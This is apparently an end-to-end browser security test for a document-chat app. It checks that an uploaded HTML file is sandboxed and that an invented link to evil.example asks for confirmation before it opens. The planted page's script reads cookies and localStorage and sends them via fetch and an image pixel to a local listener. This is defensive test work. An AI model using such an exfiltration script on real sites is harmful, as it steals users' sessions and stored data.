import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestServer } from '../support/test-server.ts';
import { launchBrowser, screenshotThemes } from './support/browser.ts';
import { startWebServer, uniqueName } from './support/web-server.ts';
import { WebUser } from './support/web-user.ts';

const TOKEN = 'e2e-token-that-must-never-leak';

/** Every request a planted document manages to send out, with what it carried. */
class Listener {
  readonly hits: string[] = [];
  private readonly waiters: Array<() => void> = [];
  private readonly server = http.createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      this.hits.push(`${request.method} ${request.url} ${body}`);
      for (const wake of this.waiters.splice(0)) wake();
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  url = '';

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
    return this;
  }

  nextHit(): Promise<void> {
    return new Promise((resolve) => this.waiters.push(resolve));
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

/** An intranet page whose script grabs what it can read and posts it to the listener. */
function plantedHtml(listenerUrl: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Welcome</title></head><body>
<h1>Welcome to the intranet</h1>
<p>The office opens at nine o'clock every weekday morning and closes at six in the evening.</p>
<script>
  document.title = 'script ran';
  var loot = {};
  try { loot.cookie = document.cookie; } catch (error) { loot.cookie = 'unreadable'; }
  try { loot.storage = JSON.stringify(localStorage); } catch (error) { loot.storage = 'unreadable'; }
  var data = encodeURIComponent(JSON.stringify(loot));
  fetch('${listenerUrl}/fetch', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
  new Image().src = '${listenerUrl}/pixel?' + data;
</script>
</body></html>`;
}

/**
 * Hostile content, with API_TOKEN set: an uploaded HTML document opened from a citation must not run
 * in the app's origin (nor anywhere it could read the session), and a link the model made up must
 * not open without the user seeing where it goes.
 */
describe('hostile documents and answers in the browser', () => {
  let server: TestServer;
  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let listener: Listener;
  beforeAll(async () => {
    listener = await new Listener().start();
    server = await startWebServer({ API_TOKEN: TOKEN });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await listener?.close();
  });

  const bearer = { authorization: `Bearer ${TOKEN}` };
  const readStorage = (page: Page) =>
    page.evaluate(() => ({ local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage), cookie: document.cookie }));

  it('signs in with the token, opens a planted HTML source without running its script, and asks before a foreign link', async () => {
    const { body: project } = await server.api('POST', '/api/projects', { name: uniqueName('Intranet') }, bearer);
    const mallory = await WebUser.open(browser, server.url, `/projects/${project.id}`);

    // 1. The server wants a token: the app asks for it, and exchanges it for an httpOnly cookie.
    const prompt = mallory.page.getByLabel('This server requires an API token (its API_TOKEN setting).');
    await prompt.waitFor({ timeout: 20_000 });
    await screenshotThemes(mallory.page, 'token-prompt');
    await prompt.fill(TOKEN);
    await mallory.page.getByRole('button', { name: 'Use token' }).click();
    await mallory.waitForConnection('connected');
    const [session] = (await browser.context.cookies(server.url)).filter((cookie) => cookie.name === 'daa_session');
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    expect(session!.value).not.toContain(TOKEN);
    let stored = await readStorage(mallory.page);
    expect(JSON.stringify(stored)).not.toContain(TOKEN);
    expect(stored.cookie).not.toContain('daa_session');

    // 2. The planted document is uploaded through the page and indexed.
    await mallory.page.getByText('No documents yet').waitFor();
    await mallory.project.upload([{ name: 'welcome.html', mimeType: 'text/html', buffer: Buffer.from(plantedHtml(listener.url)) }]);
    await mallory.project.waitForDocumentStatus('welcome.html', 'completed');

    // 3. An answer citing it, with a link the sources do not contain.
    server.ollama.queue({
      tokens: ['The office opens ', 'at nine [1]. ', 'Sign in at the [staff portal](https://evil.example/login?from=answer).'],
    });
    await mallory.project.startChat('When does the office open?');
    await mallory.chat.waitForAnswer('complete');

    // 4. "Open the document" from the citation: the server's URL in a new tab, CSP-sandboxed there.
    await mallory.chat.lastAnswer().getByRole('button', { name: 'Open source 1' }).click();
    const source = mallory.page.getByRole('dialog', { name: /Source 1: welcome\.html/ });
    const opened = browser.context.waitForEvent('page');
    await source.getByRole('link', { name: 'Open the document' }).click();
    const documentTab = await opened;
    await documentTab.waitForLoadState('load');
    expect(documentTab.url()).toMatch(new RegExp(`^${server.url}/api/documents/\\d+/download$`));
    await documentTab.getByRole('heading', { name: 'Welcome to the intranet' }).waitFor();
    // Scripts run before `load`: the title the script would have set is untouched, so it never ran.
    expect(await documentTab.title()).toBe('Welcome');
    // Not screenshotThemes: it runs a script in the page, and this one may run none.
    await documentTab.screenshot({ path: path.resolve('test-artifacts/screenshots/planted-html-opened.png') });
    await documentTab.close();
    expect(listener.hits).toEqual([]);
    await source.getByRole('button', { name: 'Close' }).click();

    // 5. The made-up link: a button naming its site; a click asks first, with the full address.
    const pagesBefore = browser.context.pages().length;
    await mallory.chat.lastAnswer().getByRole('button', { name: 'staff portal (evil.example)' }).click();
    const confirm = mallory.page.getByRole('dialog', { name: 'Open this link?' });
    await confirm.getByText('https://evil.example/login?from=answer', { exact: true }).waitFor();
    await screenshotThemes(mallory.page, 'foreign-link-confirm');
    expect(browser.context.pages().length).toBe(pagesBefore);
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    await confirm.waitFor({ state: 'detached' });
    expect(browser.context.pages().length).toBe(pagesBefore);

    // Confirmed, it opens exactly that address in a new tab (served here by a route, not the network).
    await browser.context.route('https://evil.example/**', (route) => route.fulfill({ contentType: 'text/plain', body: 'outside' }));
    await mallory.chat.lastAnswer().getByRole('button', { name: 'staff portal (evil.example)' }).click();
    const popup = browser.context.waitForEvent('page');
    await confirm.getByRole('link', { name: 'Open link' }).click();
    const outside = await popup;
    await outside.waitForURL('https://evil.example/login?from=answer');
    await outside.close();

    // 6. Control: the same file opened the old way (a blob: URL made by the app's page, so in the
    // app's origin) does run and does reach the listener, so step 4 could have seen a leak. Even
    // then it finds no token: the cookie is httpOnly and nothing is in storage.
    stored = await readStorage(mallory.page);
    expect(JSON.stringify(stored)).not.toContain(TOKEN);
    const hit = listener.nextHit();
    const blobTab = browser.context.waitForEvent('page');
    await mallory.page.evaluate((html) => {
      window.open(URL.createObjectURL(new Blob([html], { type: 'text/html' })), '_blank');
    }, plantedHtml(listener.url));
    await hit;
    await (await blobTab).close();
    expect(listener.hits.length).toBeGreaterThan(0);
    for (const leaked of listener.hits) {
      expect(decodeURIComponent(leaked)).not.toContain(TOKEN);
      expect(decodeURIComponent(leaked)).not.toContain(session!.value);
    }
  });
});
